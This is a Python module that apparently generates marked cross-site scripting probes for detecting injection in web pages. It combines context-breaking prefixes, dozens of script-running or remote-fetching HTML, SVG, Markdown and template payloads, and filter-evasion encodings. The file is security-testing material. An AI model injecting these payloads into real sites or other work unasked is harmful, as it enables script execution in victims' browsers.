# SPDX-License-Identifier: Apache-2.0
"""Texts that run a script, or fetch something, on any page that shows them as anything but text.

Ways out of where a text may stand, times what runs there, times ways around filters. Each says its own mark when it
runs, so that the page it was seen on and the place it stood in are known. Sources: the HTML standard's lists of event
handlers and of elements that fetch, and OWASP's cheat sheet on evading filters.
"""

from __future__ import annotations

from itertools import product
from typing import Final

OUTSIDE: Final = "http://outside.example"

OUT: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "</style></script>",
    "]]>",
    '" x="',
    "' x='",
    "`",
    "</p></pre></dd>",
)
"""Ways out of an element, an attribute, a comment."""

RUNS: Final = (
    "<script>alert('@')</script>",
    "<script src=//outside.example/@.js></script>",
    "<img src=x onerror=alert('@')>",
    "<img src=http://outside.example/@.png>",
    "<svg onload=alert('@')>",
    "<svg><script>alert('@')</script></svg>",
    "<svg><animate onbegin=alert('@') attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.alert('@')</script>\">",
    "<iframe src=\"javascript:parent.alert('@')\">",
    "<object data=http://outside.example/@>",
    "<embed src=//outside.example/@>",
    "<body onload=alert('@')>",
    "<input autofocus onfocus=alert('@')>",
    "<select autofocus onfocus=alert('@')>",
    "<details open ontoggle=alert('@')>x</details>",
    "<video><source onerror=alert('@')></video>",
    "<audio src=x onerror=alert('@')>",
    "<video poster=//outside.example/@>",
    "<marquee onstart=alert('@')>x</marquee>",
    "<math><mi xlink:href=\"javascript:alert('@')\">x</mi></math>",
    "<link rel=stylesheet href=//outside.example/@.css>",
    "<link rel=preload as=image href=//outside.example/@>",
    "<style>@import 'http://outside.example/@';</style>",
    "<style>*{background:url(//outside.example/@)}</style>",
    '<div style="background:url(//outside.example/@)">x</div>',
    '<meta http-equiv=refresh content="0;url=http://outside.example/@">',
    "<base href=http://outside.example/@/>",
    "<form action=http://outside.example/@><button autofocus>x</button></form>",
    "<a href=\"javascript:alert('@')\">@</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('@')>\">",
    "<template shadowrootmode=open><img src=x onerror=alert('@')>",
    '<img srcset="//outside.example/@ 1x">',
    "<x onanimationstart=alert('@') style=\"animation:x\">",
    "onfocus=alert('@') autofocus tabindex=1 ",
    "[x](javascript:alert('@'))",
    "![x](http://outside.example/@.png)",
    "<javascript:alert('@')>",
    "{{constructor.constructor(\"alert('@')\")()}}",
    "<table background=//outside.example/@>",
    "<a ping=//outside.example/@ href=#>@</a>",
    "<img src=\"x` `<script>alert('@')</script>\"` `>",
    "<!--[if IE]><script>alert('@')</script>",
)
"""What runs, or asks for something, once it is an element. `@` is where the mark goes."""


AROUND: Final = (
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace("&lt;", "<", 1).replace(" on", "\n/on"),
    lambda text: text.replace("<", "<\0").replace("\u003c\0", "<", 1).replace("script", "scr\0ipt", 1),
    lambda text: text.replace("<", "\uff1c") + text.replace("<", "%3C") + text.replace("<", "\\u003c"),
)
"""As it is, broken over lines, with NUL inside, and in the coats that some decoder takes off."""


def payloads(count: int | None = None) -> list[str]:
    """The texts; `count` of them, spread over all, or every one."""
    every = [dress(out + runs) for out, runs, dress in product(OUT, RUNS, AROUND)]
    return every if count is None else every[:: max(len(every) // count, 1)][:count]


def marked(some: list[str], start: int, place: str) -> str:
    """Lines of payloads, each with its mark: `zPLACExNUMBERz`."""
    return "\n".join(
        f"z{place}x{start + at}z " + each.replace("@", f"z{place}x{start + at}z") for at, each in enumerate(some)
    )
